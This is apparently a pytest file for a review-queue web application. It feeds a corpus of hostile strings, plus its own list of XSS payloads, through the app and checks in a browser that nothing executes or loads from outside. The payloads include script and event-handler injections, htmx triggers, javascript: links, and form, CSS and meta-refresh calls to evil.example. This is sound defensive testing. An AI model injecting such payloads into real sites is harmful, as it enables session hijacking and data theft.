"""Every hostile string of the development data, submitted and then shown on every page in a real browser.

Nothing may run, nothing may be asked of another place, the policy may have nothing to refuse, and links may
lead nowhere but to our own question. Strings are shown many to a page, and some of each kind one by one;
each alone goes through the markup makers in tests/real/test_hostile_markup.py.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from sqlalchemy import select

from reviewqueue.db import db
from reviewqueue.ids import new_id
from reviewqueue.models import Delivery, Example, LedgerEntry, Project
from reviewqueue.people.access import SYSTEM
from reviewqueue.review.claim import claim_item
from reviewqueue.review.decide import decide, escalate
from reviewqueue.routing.projects import apply
from reviewqueue.running.relay import relay
from reviewqueue.text import words
from tests.listener import listener
from tests.make import Make, toml
from tests.real.load import DATA, require_folder

pytestmark = pytest.mark.sqlite  # what a browser makes of a page does not depend on the database

MANY = 100  # strings to a page
LONGEST = 3_000  # characters of one string in the browser; the markup makers take them whole

# Ours, for the places where our own pages could be broken out of; each would leave its mark in __ran.
OURS = [
    "<script>__ran.push('script')</script>",
    "<img src=x onerror=__ran.push('img')>",
    "<svg/onload=__ran.push('svg')>",
    "</textarea><script>__ran.push('textarea')</script>",
    "</pre></code></title></style></script><script>__ran.push('closed')</script>",
    '" autofocus onfocus="__ran.push(\'attribute\')" x="',
    "' autofocus onfocus='__ran.push(1)' x='",
    "</option></select><img src=//evil.example/select>",
    "<a hx-get='/people' hx-trigger='load' hx-on::load=\"__ran.push('htmx')\">load me</a>",
    "<div data-hx-on:load=\"__ran.push('data')\" hx-vals='js:{a:__ran.push(2)}'>x</div>",
    "<div hx-trigger=load hx-post=/logout hx-swap=outerHTML hx-target=body>x</div>",
    "[click](javascript:__ran.push('link')) [click](data:text/html,<script>__ran.push('data')</script>)",
    "![pixel](https://evil.example/pixel.png) [ok](https://evil.example/?q=1)",
    "<style>@import '//evil.example/a.css'; * {background: url(//evil.example/b)}</style>",
    "<link rel=prefetch href=//evil.example/p><link rel=stylesheet href=//evil.example/s>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.__ran.push(3)</script>'></iframe>",
    "</form><form id=decision-form action=//evil.example><button name=verdict value=approve>",
    "{{ ''.__class__ }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "<https://evil.example/auto> <mailto:a@evil.example> <javascript:__ran.push(4)>",
    "[ref]\n\n[ref]: https://evil.example/reference 'title\" onmouseover=\"__ran.push(5)'",
    "<img name=body><img name=csrf-token content=x><input name=htmx><a id=changes>clobber</a>",
]

BEFORE_THE_PAGE = """
window.__ran = []; window.__refused = [];
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => { window.__ran.push(name); };
document.addEventListener("securitypolicyviolation",
  (event) => window.__refused.push(event.violatedDirective + " " + event.blockedURI));
"""

# What no page of ours holds, and links that lead anywhere but to our own pages.
ODD = """() => {
  const odd = [];
  const never = "iframe, object, embed, applet, base, style, meta[http-equiv], img, image, video, audio," +
    "source, script:not([src^='/static/']), link:not([href^='/static/']), [style]";
  for (const found of document.querySelectorAll(never)) odd.push(found.outerHTML.slice(0, 200));
  for (const element of document.querySelectorAll("*"))
    for (const attribute of element.attributes)
      if (/^on/i.test(attribute.name)) odd.push(attribute.name + "=" + attribute.value.slice(0, 100));
  for (const link of document.querySelectorAll("a[href], area[href]"))
    if (link.origin !== location.origin) odd.push("link " + link.href.slice(0, 200));
  for (const form of document.forms)
    if (new URL(form.getAttribute("action") || "", location).origin !== location.origin)
      odd.push("form " + form.getAttribute("action"));
  for (const link of document.querySelectorAll(".content a[href]"))
    if (!link.getAttribute("href").startsWith("/leave?to="))
      odd.push("content " + link.href.slice(0, 200));
  for (const inside of document.querySelectorAll(".content *"))
    if ([...inside.attributes].some((one) => /^(data-)?hx-/.test(one.name)))
      odd.push("hx " + inside.outerHTML.slice(0, 200));
  return [window.__ran, window.__refused, odd];
}"""


class Watch:
    """What a browser did that it should not have; `look` opens a page and notes what is odd about it."""

    def __init__(self, page: Any, live: str) -> None:
        self.page, self.live = page, live
        self.noticed: list[str] = []
        page.add_init_script(BEFORE_THE_PAGE)
        page.on("dialog", lambda dialog: (self.noticed.append("dialog"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.noticed.append(f"error {error}"))
        page.on("request", self._request)
        page.on("console", self._console)
        page.on("popup", lambda _popup: self.noticed.append("popup"))

    def _request(self, request: Any) -> None:
        if not request.url.startswith(f"{self.live}/") or request.url == f"{self.live}/csp":
            self.noticed.append(f"request {request.url[:200]}")

    def _console(self, message: Any) -> None:
        refused = ("Failed to load resource", "Response Status Error Code")  # an answer that is no 2xx
        if message.type == "error" and not message.text.startswith(refused):
            self.noticed.append(f"console {message.text[:200]}")

    def look(self, path: str, status: int = 200) -> None:
        """Open a page and see that it is nothing but ours."""
        answer = self.page.goto(path)
        assert answer.status == status, f"{path}: {answer.status}"
        self.inspect(path)

    def inspect(self, where: str, leaving: bool = False) -> None:
        """See that the page as it stands now is nothing but ours; `leaving`: it may hold a way out."""
        ran, refused, odd = self.page.evaluate(ODD)
        odd = [one for one in odd if not (leaving and one.startswith("link "))]
        self.noticed += [f"ran {word}" for word in ran] + [f"refused {word}" for word in refused] + odd
        assert not self.noticed, f"{where}: {self.noticed[:3]}"


def rows() -> list[dict[str, Any]]:
    require_folder("hostile")
    lines = (DATA / "hostile" / "strings.jsonl").read_text("utf-8").split("\n")
    return [json.loads(line) for line in lines if line]


def text_of(row: dict[str, Any]) -> str:
    """The string of a row; one that is not UTF-8 as a lenient program would have sent it."""
    if recipe := row.get("recipe"):
        times = min(recipe["times"], LONGEST // (len(recipe["unit"]) + len(recipe.get("close", ""))))
        close = recipe.get("close", "") * times
        return str(recipe.get("prefix", "") + recipe["unit"] * times + recipe["suffix"] + close)
    if row["text"] is None:
        return base64.b64decode(row["bytes_b64"]).decode("utf-8", "replace")
    return str(row["text"])


def submission(project: str, number: int, text: str, output: Any = None) -> dict[str, Any]:
    """An item that says the string wherever an item can say something."""
    short = text[:200]
    named = {"model": short, "subject": short, "feature": short, "prompt": {"name": short, "version": short}}
    return {
        "project": project,
        "external_id": f"{number} {text}"[:200],
        "output": text if output is None else output,
        "input": text,
        "context": [{"title": text[:1000], "text": text, "url": text[:4000]}],
        "samples": [text, {"said": text}],
        "confidence": 0.1,
        "risk_flags": [short],
        "trace": {"url": text[:4000], "traceparent": short},
        "metadata": {short: text[:3000]},
        **named,
    }


@pytest.fixture
def environ() -> dict[str, str]:
    return {"REVIEWQUEUE_INTAKE_RATE": "0"}


@pytest.fixture
def watch(page: Any, live: str, make: Make) -> Watch:
    """Cleo's browser, with an eye on all it does."""
    page.goto(make.sign_in_path(make.person("cleo")))
    return Watch(page, live)


@pytest.fixture
def strings() -> list[str]:
    found = [text for row in rows() if (text := text_of(row)) and "\0" not in text]
    assert len(found) > 1800
    return found + OURS


def project(kind: str, strings: list[str], **fields: Any) -> Project:
    """A project that is hostile itself as far as a file may be: title, guidelines, reasons, causes."""
    words = [one.replace("\n", " ") for one in strings if 1 < len(one) < 150 and one.isprintable()]
    lines = {
        "name": f"hostile-{kind.replace('_', '-')}",
        "title": OURS[0],
        "kind": kind,
        "guidelines": "\n\n".join([*OURS, *words[::50]]),
        "reasons": ["other", *dict.fromkeys(words[:20])],
        "causes": ["model", *dict.fromkeys(words[20:40])],
    }
    file = "\n".join(f"{key} = {toml(value)}" for key, value in (lines | fields).items())
    return apply(f"{file}\n[policy]\nconfidence_below = 0.5\nundo_seconds = 0\n", SYSTEM).project


def groups(strings: list[str]) -> list[str]:
    """The strings joined, MANY to a text; an empty line keeps what one opens from the next."""
    return ["\n\n".join(strings[start : start + MANY]) for start in range(0, len(strings), MANY)]


def submit_all(client: Any, key: str, items: list[dict[str, Any]]) -> list[str]:
    """Submit in batches; the ids in order. None may be refused."""
    ids = []
    for start in range(0, len(items), 100):
        answer = client.post(
            "/api/v1/items/batch",
            json={"items": items[start : start + 100]},
            headers={"Authorization": f"Bearer {key}"},
        )
        assert answer.status_code == 200, answer.text[:500]
        for result in answer.json["results"]:
            assert result["status"] == 201, result
            ids.append(result["item"]["id"])
    return ids


def test_every_string_is_inert_in_lists_and_on_its_way_there(
    watch: Watch, strings: list[str], client: Callable[..., Any], make: Make, app: Flask
) -> None:
    made = project("text", strings)
    name = made.name
    key = make.backend(made).api_key
    ids = submit_all(client(), key, [submission(name, number, text) for number, text in enumerate(strings)])
    assert len(ids) == len(strings)
    relay(app, once=True)

    watch.look("/")
    path, seen = f"/queues/{name}/main", 0
    while path:
        watch.look(path)
        seen += watch.page.locator("table.items tbody tr").count()
        following = watch.page.locator("a[rel=next]")
        path = following.get_attribute("href") if following.count() else ""
    assert seen == len(strings)

    for text in [*OURS, *strings[::400]]:
        # What holds no word cannot be looked for; the page says so by the field.
        watch.look(f"/queues/{name}/main?text={quote(text[:200])}", 200 if words(text[:200]) else 422)
        watch.page.goto(f"/leave?to={quote(text[:1000])}")
        watch.inspect("leave", leaving=True)
    for text in OURS:
        watch.look(f"/{quote(text, safe='')}", 404)


def test_every_string_is_inert_where_it_is_reviewed_corrected_told_and_kept(
    watch: Watch, strings: list[str], client: Callable[..., Any], make: Make, app: Flask
) -> None:
    with listener() as called:
        called.headers, called.body = {"x-request-id": OURS[0], "content-type": "text/html"}, OURS[1].encode()
        made = project("text", strings)
        backend = make.backend(made, callback=called.url)
        called.secret = backend.callback_secret
        texts = groups(strings)
        items = [submission(made.name, number, text) for number, text in enumerate(texts)]
        ids = submit_all(client(), backend.api_key, items)
        relay(app, once=True)
        for number, (item_id, text) in enumerate(zip(ids, texts, strict=True)):
            # Every second becomes the one before: each string is struck out or added somewhere.
            correction = texts[number - 1] if number % 2 == 0 else text
            review_and_correct(watch, make, item_id, text, correction, thorough=number % 6 == 0)
        relay(app, once=True)
        assert len(called.once()) == len(ids)

    db.session.rollback()
    for example in db.session.scalars(select(Example.id)).all():
        watch.look(f"/examples/{example}")
    for seq in db.session.scalars(select(LedgerEntry.seq).where(LedgerEntry.type == "decision")).all():
        watch.look(f"/audit/{seq}")
    for delivery in db.session.scalars(select(Delivery.id).limit(5)).all():
        watch.look(f"/deliveries/{delivery}")
    for path in ("/examples", "/deliveries", "/audit", f"/audit?item={ids[0]}", f"/policies/{made.name}"):
        watch.look(path)
    watch.look(f"/examples/projects/{made.name}")


def review_and_correct(
    watch: Watch, make: Make, item_id: str, text: str, correction: str, thorough: bool
) -> None:
    """Cleo reviews the item in the browser and corrects it; its page then shows the change."""
    cleo = make.person("cleo")
    if thorough:  # passed on before, with a note; her own page may hold it already, fetched ahead
        escalate(cleo, claim_item(cleo, item_id).token, "adjudication", text[:5000])
    token = claim_item(cleo, item_id).token
    watch.look(f"/claims/{token}")
    if thorough:
        watch.page.locator("textarea[name=output]").fill(correction)
        watch.page.locator("#changes ins").first.wait_for()
        watch.inspect("live changes")
    decide(cleo, token, new_id("dec"), "edit", f"{correction} changed", "other", "model", text[:5000])
    watch.look(f"/items/{item_id}")


@pytest.mark.parametrize("kind", ["markdown", "json", "chat", "tool_call", "label"])
def test_every_string_is_inert_as_another_kind(
    kind: str, watch: Watch, strings: list[str], client: Callable[..., Any], make: Make
) -> None:
    labels = [text for text in strings if len(text) < 150][:: len(strings) // 150]
    fields = {"schema": {"enum": labels}} if kind == "label" else {}
    made = project(kind, strings, **fields)
    outputs = {
        "markdown": [*groups(strings)[::2], *OURS],
        "json": [
            {"strings": {text[:500]: text for text in many.split("\n\n")}} for many in groups(strings)[1::2]
        ],
        "chat": [[{"role": "assistant", "content": many}] for many in groups(strings)[::3]],
        "tool_call": [
            {"name": text[:100], "arguments": {text[:100]: text}} for text in [*OURS[::2], *strings[::600]]
        ],
        "label": labels[::20],
    }[kind]
    items = [submission(made.name, number, OURS[0], output) for number, output in enumerate(outputs)]
    cleo = make.person("cleo")
    for item_id in submit_all(client(), make.backend(made).api_key, items):
        token = claim_item(cleo, item_id).token
        watch.look(f"/claims/{token}")
        decide(cleo, token, new_id("dec"), "reject", None, "other")
        watch.look(f"/items/{item_id}")


def test_a_link_in_a_text_leads_to_our_question_and_no_further(
    watch: Watch, strings: list[str], client: Callable[..., Any], make: Make
) -> None:
    made = project("markdown", strings)
    item = submission(made.name, 1, "[ok](https://evil.example/?q=1)")
    (item_id,) = submit_all(client(), make.backend(made).api_key, [item])
    watch.look(f"/items/{item_id}")
    link = watch.page.locator(".content a").first
    assert "https://evil.example/?q=1" in watch.page.locator(".content").first.inner_text()
    with watch.page.context.expect_page() if link.get_attribute("target") else watch.page.expect_navigation():
        link.click()
    opened = watch.page.context.pages[-1]
    assert opened.url.startswith(f"{watch.live}/leave?to=")
    assert "https://evil.example/?q=1" in opened.locator("main").inner_text()
    assert not [one for one in watch.noticed if one != "popup"]


def test_the_watch_notices_what_it_watches_for(watch: Watch) -> None:
    page = """<base href="//evil.example/"><script>__ran.push("x")</script><img src="https://evil.example/a.png">
      <p onclick="x">p</p><a href="https://evil.example/">a</a><form action="//evil.example"></form>"""
    open_page = {"content-type": "text/html"}
    closed = open_page | {"content-security-policy": "default-src 'none'; report-uri /csp"}
    for headers, wanted in ((open_page, "ran x"), (closed, "refused script-src")):
        watch.page.route(
            "**/attack", lambda route, _, headers=headers: route.fulfill(body=page, headers=headers)
        )
        with pytest.raises(AssertionError):
            watch.look("/attack")
        assert any(one.startswith(wanted) for one in watch.noticed), watch.noticed
        watch.page.unroute("**/attack")
    for wanted in ("request https://evil.example/", "<base", "<img", "onclick=", "link ", "form "):
        assert any(one.startswith(wanted) for one in watch.noticed), (wanted, watch.noticed)
